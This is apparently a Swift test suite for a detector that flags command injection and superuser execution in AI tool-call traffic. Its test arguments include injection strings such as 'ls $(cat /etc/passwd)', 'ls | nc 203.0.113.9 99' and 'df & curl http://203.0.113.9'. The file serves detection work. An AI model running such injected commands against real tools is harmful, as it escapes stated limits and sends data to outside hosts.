import Detection
import Testing
import TrafficModel

@Suite struct CommandDetectorTests {
  private static let limited = """
    Runs a maintenance command (restricted to safe ones). command: what to run (only 'ls', 'df', 'date' allowed)
    """

  private func definition(_ description: String, parameter: String = "command") -> TrafficEvent {
    .toolDefinition(Example.definition("maintain", description, parameters: [parameter]))
  }

  private func call(_ command: String, _ result: String, isError: Bool = false, parameter: String = "command")
    -> TrafficEvent
  {
    var call = Example.call(
      "maintain", arguments: #"{"\#(parameter)":"\#(command)"}"#,
      result: #"{"content":[{"type":"text","text":"\#(result)"}]}"#)
    call.isError = isError
    return .toolCall(call)
  }

  private func found(
    _ command: String, _ result: String, isError: Bool = false, description: String = limited
  ) -> [Finding] {
    claims(CommandDetector(), [definition(description), call(command, result, isError: isError)])
  }

  @Test(
    "what runs past the limit that a tool states is injection",
    arguments: [
      ("ls /tmp; id", #"a.txt\nuid=33(www-data) gid=33(www-data)"#, Severity.high),
      ("date && echo harbour", #"Sun Nov 22\nharbour"#, .high),
      ("ls $(cat /etc/passwd)", #"root:x:0:0:root:/root"#, .high),
      ("ls `uname -a`", "Linux quay 6.8", .high), (#"ls\nuptime"#, "up 3 days", .medium),
      ("ls | nc 203.0.113.9 99", "sent", .medium), ("df & curl http://203.0.113.9", "<html>", .medium),
      ("hostname", "quay", .medium), ("LANG=C /usr/bin/hostname", "quay", .medium),
    ])
  func injection(command: String, result: String, severity: Severity) {
    let found = found(command, result)
    #expect(found.map(\.severity) == [severity])
    #expect(found.allSatisfy { $0.detector == "CMD-01" && "\($0.title)".contains("command injection") })
  }

  @Test(
    "what a tool allows, refuses or only mentions is none",
    arguments: [
      ("ls /tmp; df", "a.txt", false), ("date && ls", "Sun", false), ("ls 'a;id'", "no such file", false),
      (#"ls \"a && b\""#, "no such file", false), ("ls; id", "Error: id is not allowed", false),
      ("ls; id", "uid=33(www-data) gid=33(www-data)", true), ("ls -l; /bin/df", "a.txt", false), ("ls; 5", "x", false),
      ("", "x", false),
    ])
  func harmless(command: String, result: String, isError: Bool) {
    #expect(found(command, result, isError: isError).isEmpty)
  }

  @Test(
    "a tool that states no limit has none to go past",
    arguments: [
      "Runs any shell command.", "Executes a command and returns its output. Only use it when asked.",
      "Runs a command. It is the only tool that writes files.",
    ])
  func noLimit(description: String) { #expect(found("ls; hostname", "quay", description: description).isEmpty) }

  @Test(
    "limits are stated in many words",
    arguments: [
      "Runs git commands; only status and log are permitted.", "Runs a command from the allowlist.",
      "Restricted to read-only programs.", "Allowed commands: ls, cat.", "Only `ls` and `cat` are supported.",
    ])
  func limits(description: String) {
    #expect(found("ls; hostname", "quay", description: description).map(\.severity) == [.medium])
  }

  @Test("a limit without a list says nothing of the first program", arguments: ["Restricted to read-only programs."])
  func withoutAList(description: String) { #expect(found("hostname", "quay", description: description).isEmpty) }

  @Test func anotherDefinitionForgetsTheLimit() {
    let events = [definition(Self.limited), definition("Runs anything."), call("ls; hostname", "quay")]
    #expect(claims(CommandDetector(), events).isEmpty)
  }

  @Test(
    "commands run as the superuser",
    arguments: [
      ("whoami", "root"), ("id", "uid=0(root) gid=0(root)"), ("cd /tmp && whoami", #"Done:\nroot\n"#),
      ("whoami", #"nt authority\\system"#),
    ])
  func superuser(command: String, result: String) {
    let found = claims(CommandDetector(), [call(command, result)])
    #expect(found.map(\.detector) == ["CMD-03"])
    #expect(found.map(\.severity) == [.medium])
    #expect(claims(CommandDetector(), [definition("Runs a command."), call(command, result)]).count == 1)
  }

  @Test(
    "others, and talk about them, are none",
    arguments: [
      ("whoami", "ada"), ("id", "uid=1000(ada) gid=1000(ada)"), ("echo root", "root"), ("grep whoami notes", "root"),
      ("whoami --help", "root"), ("ls", "root"), ("whoami", "root is not who I am"), ("id", "no uid=0(root) here"),
    ])
  func otherUsers(command: String, result: String) {
    #expect(claims(CommandDetector(), [call(command, result)]).isEmpty)
  }

  @Test func whatIsNoCommandIsNotRead() {
    #expect(claims(CommandDetector(), [call("whoami", "root", parameter: "query")]).isEmpty)
  }
}
